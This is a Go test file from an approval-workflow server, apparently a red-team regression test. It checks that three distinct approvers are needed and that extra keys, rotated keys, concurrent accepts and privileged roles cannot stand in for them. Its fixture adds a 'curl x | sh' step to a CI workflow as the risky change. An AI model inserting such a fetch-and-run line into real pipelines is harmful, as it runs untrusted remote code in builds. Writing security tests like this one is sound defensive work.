package server_test

import (
	"encoding/json"
	"sync"
	"testing"
	"time"

	"github.com/cordon-dev/cordon/risk"
	"github.com/cordon-dev/cordon/server"
	"github.com/cordon-dev/cordon/store"
)

// TestRedteam16OneApproverManyKeys: HELD (red team 16). A high-risk change
// needs three distinct approvers, and one approver cannot count twice by
// holding several keys, by rotating a key, or by racing: a second key of
// the same user, a rotated key and a burst of concurrent accepts from
// all of them add one decision; the task's author (the project's
// last writer, holding the approver role), the bare tenant key and the admin key decide nothing; and the
// review closes accepted only at the third distinct approver.
func TestRedteam16OneApproverManyKeys(t *testing.T) {
	fake := newFake()
	fake.change = []risk.File{{Path: ".github/workflows/ci.yml", Old: []byte("on: push\n"), New: []byte("on: push\nrun: curl x | sh\n")}}
	e := newEnv(t, envOpts{exec: fake})
	e.setup(projectFor("true"))
	if got := e.do("PUT", "/v1/risk-policy", adminKey, highPolicy, server.ExplicitHeader, "1"); got.code != 200 {
		t.Fatalf("policy: %d %s", got.code, got.body)
	}
	more := e.approverKeys(t, 4)
	// more[3], an approver, writes the task: it authors what runs.
	e.must(200, "PUT", "/v1/projects/p", more[3], projectFor("true"))
	// Two more keys for reviewera: one created, one rotated from it.
	var whoami struct {
		User string `json:"user"`
	}
	e.must(200, "GET", "/v1/whoami", more[0], "").json(t, &whoami)
	if whoami.User == "" {
		t.Fatal("whoami names no user")
	}
	var k2 struct{ ID, Secret string }
	e.must(201, "POST", "/v1/tenants/"+e.tenantA+"/keys", adminKey, `{"user":"`+whoami.User+`"}`).json(t, &k2)
	var k3 struct{ Secret string }
	e.must(201, "POST", "/v1/tenants/"+e.tenantA+"/keys/"+k2.ID+"/rotate", adminKey, "").json(t, &k3)
	var who3 struct {
		User string `json:"user"`
	}
	e.must(200, "GET", "/v1/whoami", k3.Secret, "").json(t, &who3)
	if who3.User != whoami.User {
		t.Fatalf("the rotated key is user %q, want %q", who3.User, whoami.User)
	}
	sameUser := []string{more[0], k3.Secret, more[0], k3.Secret}

	id := e.submit(e.keys["approver"])
	e.must(200, "POST", "/v1/runs/"+id+"/approve", more[1], "")
	if got := e.wait(id, e.keys["member"], 30*time.Second); got.State != store.StateFinished {
		t.Fatalf("run %+v", got)
	}
	// A user cannot be made again under an approver's name (there is no
	// user deletion, and names are unique in a tenant).
	if got := e.do("POST", "/v1/tenants/"+e.tenantA+"/users", adminKey, `{"name":"reviewera","role":"approver"}`); got.code == 201 {
		t.Errorf("a second user named reviewera: %s", got.body)
	}
	// The key rotated away is revoked: it decides nothing.
	if got := e.do("POST", "/v1/runs/"+id+"/review/accept", k2.Secret, ""); got.code != 401 {
		t.Errorf("a rotated (revoked) key: %d %s, want 401", got.code, got.body)
	}
	// The author (an approver), a member, the bare tenant key, the admin,
	// the submitter.
	for who, key := range map[string]string{"author": more[3], "member": e.keys["member"], "tenant key": e.keys["tenant"], "admin": adminKey, "submitter": e.keys["approver"]} {
		if got := e.do("POST", "/v1/runs/"+id+"/review/accept", key, ""); got.code == 200 {
			t.Errorf("%s accepted: %s", who, got.body)
		}
	}
	// A burst: the same approver under every key, at once.
	var wg sync.WaitGroup
	codes := make(chan int, len(sameUser))
	for _, k := range sameUser {
		wg.Add(1)
		go func() {
			defer wg.Done()
			codes <- e.doQuiet("POST", "/v1/runs/"+id+"/review/accept", k, "").code
		}()
	}
	wg.Wait()
	close(codes)
	ok := 0
	for c := range codes {
		if c == 200 {
			ok++
		}
	}
	var rv reviewResp
	e.must(200, "GET", "/v1/runs/"+id+"/review", e.keys["member"], "").json(t, &rv)
	if ok != 1 || len(rv.Decisions) != 1 || rv.State != store.ReviewOpen {
		t.Fatalf("one approver under %d keys: %d accepted, review %+v", len(sameUser), ok, rv.Review)
	}
	e.must(200, "POST", "/v1/runs/"+id+"/review/accept", more[1], "")
	e.must(200, "GET", "/v1/runs/"+id+"/review", e.keys["member"], "").json(t, &rv)
	if rv.State != store.ReviewOpen {
		t.Fatalf("accepted with two of three: %+v", rv.Review)
	}
	e.must(200, "POST", "/v1/runs/"+id+"/review/accept", more[2], "").json(t, &rv)
	users := map[string]bool{}
	for _, d := range rv.Decisions {
		users[d.User] = true
	}
	if rv.State != store.ReviewAccepted || len(users) != 3 {
		b, _ := json.Marshal(rv)
		t.Fatalf("after three distinct approvers: %s", b)
	}
}
